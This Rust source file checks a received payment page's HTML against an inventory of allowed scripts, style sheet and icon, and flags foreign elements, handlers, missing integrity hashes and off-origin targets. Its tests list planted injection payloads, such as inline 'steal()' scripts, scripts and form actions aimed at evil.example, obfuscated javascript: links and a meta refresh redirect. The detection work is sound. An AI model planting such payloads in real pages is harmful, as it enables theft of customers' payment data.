//! What a received page would load and run, compared with the inventory.
//!
//! Read as a thief would write it: every `<` before a letter begins an element, wherever it stands, also within a comment,
//! an attribute or another element. Our own pages hold no such letter but for their elements, so what is read too much is
//! a finding rightly.

use webkit::page::assets::{self, integrity_of};
use webkit::page::scripts::list_payment_scripts;

use super::{FINDINGS_MAX, Finding, shown};

/// Elements that load or run something and that no payment page of ours has.
const FOREIGN: [&str; 17] = [
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "portal",
    "fencedframe",
    "style",
    "template",
    "math",
    "audio",
    "video",
    "source",
    "track",
    "import",
];
/// Attributes that send or load, by which a page reaches elsewhere.
const TARGETS: [&str; 8] = ["action", "formaction", "href", "src", "srcset", "data", "ping", "background"];

struct Element {
    name: String,
    attributes: Vec<(String, String)>,
    /// What stands behind it in the page.
    rest_at: usize,
}

impl Element {
    fn find(&self, name: &str) -> Option<&str> {
        self.attributes.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str())
    }
}

/// What of the page is not ours, in the order in which it stands there; at most [`FINDINGS_MAX`]. `origin` is where the
/// page came from, as `https://pay.shop.example`.
pub fn compare(html: &str, origin: &str) -> Vec<Finding> {
    let mut found = Vec::new();
    for element in elements(html) {
        if found.len() >= FINDINGS_MAX {
            break;
        }
        judge(&element, html, origin, &mut found);
    }
    found
}

/// The addresses of our files that the page loads.
pub fn files(html: &str) -> Vec<String> {
    let loaded = elements(html).filter(|element| ["script", "link"].contains(&element.name.as_str()));
    let named = loaded.filter_map(|element| Some(element.find("src").or(element.find("href"))?.to_owned()));
    named.collect()
}

fn judge(element: &Element, html: &str, origin: &str, found: &mut Vec<Finding>) {
    match element.name.as_str() {
        "script" => judge_script(element, html, found),
        "link" => judge_link(element, found),
        "meta" if element.find("http-equiv").is_some_and(|kind| !kind.eq_ignore_ascii_case("refresh")) => {
            found.push(Finding::Element("meta http-equiv".to_owned()));
        }
        "meta" if element.find("content").is_some_and(|text| text.to_ascii_lowercase().contains("url")) => {
            found.push(Finding::Target(shown(element.find("content").unwrap_or_default())));
        }
        name if FOREIGN.contains(&name) => found.push(Finding::Element(shown(name))),
        _ => {}
    }
    for (name, value) in &element.attributes {
        if name.starts_with("on") {
            found.push(Finding::Handler(shown(name)));
        }
        let loads = TARGETS.contains(&name.as_str()) || name.ends_with(":href");
        if loads && element.name != "script" && !is_own_target(value, origin) {
            found.push(Finding::Target(shown(value)));
        }
    }
}

fn judge_script(element: &Element, html: &str, found: &mut Vec<Finding>) {
    let rest = html.get(element.rest_at..).unwrap_or_default();
    let body = find_ignoring_case(rest, "</script").and_then(|end| rest.get(..end)).unwrap_or(rest);
    if !body.trim().is_empty() {
        found.push(Finding::Inline(integrity_of(body.as_bytes())));
    }
    let listed = list_payment_scripts();
    match element.find("src") {
        None if body.trim().is_empty() => found.push(Finding::Inline("an empty one".to_owned())),
        None => {}
        Some(src) => match listed.iter().find(|script| script.file.href == src) {
            None => found.push(Finding::Script(shown(src))),
            Some(script) if element.find("integrity") != Some(&script.file.integrity) => {
                found.push(Finding::NoIntegrity(shown(src)));
            }
            Some(_) => {}
        },
    }
}

/// The style sheet and the mark, and nothing else.
fn judge_link(element: &Element, found: &mut Vec<Finding>) {
    let (rel, href) = (element.find("rel").unwrap_or_default(), element.find("href").unwrap_or_default());
    let wanted = match rel {
        "stylesheet" => &assets::css().href,
        "icon" => &assets::mark().href,
        _ => return found.push(Finding::Element(shown(&format!("link rel={rel}")))),
    };
    if href != wanted {
        found.push(Finding::Target(shown(href)));
    }
}

/// Whether an address stays here: of this origin, within the page, or empty.
fn is_own_target(value: &str, origin: &str) -> bool {
    let plain = value.bytes().all(|byte| byte.is_ascii_graphic());
    let path = value.starts_with('/') && !value.starts_with("//") && !value.contains('\\');
    let own = value.strip_prefix(origin).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'));
    value.is_empty() || plain && (path || value.starts_with('#') || value.starts_with('?') || own)
}

fn elements(html: &str) -> impl Iterator<Item = Element> {
    let begins = html.match_indices('<').map(|(at, _)| at + 1);
    let begins = begins.filter(|at| html.as_bytes().get(*at).is_some_and(u8::is_ascii_alphabetic));
    begins.map(|at| read(html, at))
}

/// Reads an element from its name on, as the HTML standard has browsers do.
fn read(html: &str, at: usize) -> Element {
    let mut reader = Reader { bytes: html.as_bytes(), at };
    let name = reader.take(|byte| !is_space(byte) && byte != b'/' && byte != b'>');
    let mut attributes = Vec::new();
    loop {
        reader.take(|byte| is_space(byte) || byte == b'/');
        match reader.peek() {
            None => break,
            Some(b'>') => {
                reader.at += 1;
                break;
            }
            Some(_) => attributes.push(reader.attribute()),
        }
    }
    Element { name: name.to_ascii_lowercase(), attributes, rest_at: reader.at }
}

struct Reader<'a> {
    bytes: &'a [u8],
    at: usize,
}

impl Reader<'_> {
    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.at).copied()
    }

    fn take(&mut self, wanted: impl Fn(u8) -> bool) -> String {
        let rest = self.bytes.get(self.at..).unwrap_or_default();
        let end = rest.iter().position(|byte| !wanted(*byte)).unwrap_or(rest.len());
        self.at += end;
        String::from_utf8_lossy(rest.get(..end).unwrap_or_default()).into_owned()
    }

    fn attribute(&mut self) -> (String, String) {
        // A name may begin with `=`.
        let begin = self.peek().map(|_| 1).unwrap_or_default();
        let first = self.bytes.get(self.at..self.at + begin).unwrap_or_default().to_vec();
        self.at += begin;
        let rest = self.take(|byte| !is_space(byte) && !matches!(byte, b'/' | b'>' | b'='));
        let name = format!("{}{rest}", String::from_utf8_lossy(&first)).to_ascii_lowercase();
        self.take(is_space);
        if self.peek() != Some(b'=') {
            return (name, String::new());
        }
        self.at += 1;
        self.take(is_space);
        let value = match self.peek() {
            Some(quote @ (b'"' | b'\'')) => {
                self.at += 1;
                let value = self.take(|byte| byte != quote);
                self.at += 1;
                value
            }
            _ => self.take(|byte| !is_space(byte) && byte != b'>'),
        };
        (name, unescape(&value))
    }
}

fn is_space(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | 0x0c)
}

/// The references that our own pages use. Any other one stays as it is, and fits none of our addresses.
fn unescape(text: &str) -> String {
    let known =
        [("&quot;", "\""), ("&#39;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&#38;", "&"), ("&amp;", "&")];
    known.iter().fold(text.to_owned(), |text, (from, to)| text.replace(from, to))
}

fn find_ignoring_case(text: &str, wanted: &str) -> Option<usize> {
    text.as_bytes().windows(wanted.len()).position(|part| part.eq_ignore_ascii_case(wanted.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const ORIGIN: &str = "https://pay.shop.example";

    fn own_page() -> String {
        let (css, mark) = (assets::css(), assets::mark());
        let scripts = list_payment_scripts().map(|script| {
            format!(
                "<script src=\"{}\" integrity=\"{}\" defer></script>",
                script.file.href, script.file.integrity
            )
        });
        format!(
            "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\">\
             <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
             <link rel=\"stylesheet\" href=\"{}\"><link rel=\"icon\" href=\"{}\" type=\"image/svg+xml\">\
             <noscript><meta http-equiv=\"refresh\" content=\"5\"></noscript>{}</head><body>\
             <a href=\"#main\">x</a><form method=\"post\" action=\"/p/x?shop=1\"><button>&lt;script&gt;</button></form>",
            css.href,
            mark.href,
            scripts.concat()
        )
    }

    #[test]
    fn c30_our_own_page_has_no_finding() {
        assert_eq!(compare(&own_page(), ORIGIN), []);
        assert_eq!(files(&own_page()).len(), 5);
    }

    #[test]
    fn c30_what_is_planted_is_found_however_it_is_written() {
        for planted in [
            "<script>steal()</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script/src='https://evil.example/x.js'></script>",
            "<script\nsrc=\"https://evil.example/x.js\"\n>",
            "<!--><script>steal()</script>-->",
            "<!-- <script src=\"/assets/other.js\"></script> -->",
            "<p title=\"<script src=/x.js>\">",
            "<img src=\"/x\" onerror=steal()>",
            "<svg/onload=steal()>",
            "<a href=\"javascript:steal()\">x</a>",
            "<a href=\"java\tscript:steal()\">x</a>",
            "<form action=\"https://evil.example/\">",
            "<form action=\"//evil.example/\">",
            "<form action=\"/\\evil.example/\">",
            "<form action=\"https://pay.shop.example.evil.example/\">",
            "<form action=\"https://pay.shop.example@evil.example/\">",
            "<button formaction=https://evil.example>",
            "<iframe src=\"/x\"></iframe>",
            "<base href=\"/\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<link rel=\"preload\" href=\"/x\">",
            "<style>x</style>",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"x\">",
            "<meta http-equiv=\"refresh\" content=\"0; URL=https://evil.example\">",
            "<svg><a xlink:href=\"https://evil.example\">x</a></svg>",
            "<script",
        ] {
            let found = compare(&format!("{}{planted}", own_page()), ORIGIN);
            assert!(!found.is_empty(), "{planted}");
            assert!(found.iter().all(|finding| finding.to_string().len() < 200), "{found:?}");
        }
    }

    #[test]
    fn c29_a_script_without_its_integrity_or_with_words_of_its_own_is_found() {
        let file = list_payment_scripts()[0].file;
        let bare = format!("<script src=\"{}\" defer></script>", file.href);
        assert_eq!(compare(&bare, ORIGIN), [Finding::NoIntegrity(file.href.clone())]);
        let other = bare.replace(" defer", " integrity=\"sha256-AAAA\"");
        assert_eq!(compare(&other, ORIGIN), [Finding::NoIntegrity(file.href.clone())]);
        let inner = own_page().replacen("defer></script>", "defer>steal()</script>", 1);
        assert!(matches!(compare(&inner, ORIGIN)[..], [Finding::Inline(_)]), "{inner}");
    }

    #[test]
    fn a_page_full_of_scripts_gives_so_many_findings_and_any_bytes_none_that_break() {
        let many = "<script src=x>".repeat(10_000);
        assert!(compare(&many, ORIGIN).len() <= FINDINGS_MAX + 2);
        for odd in ["<", "<a", "<a =", "<a ='", "<a b=\"茶", "<茶", "<a/", "<a b= >", "<a ===>", "<a b='\0'>"]
        {
            let _ = compare(odd, ORIGIN);
        }
    }
}
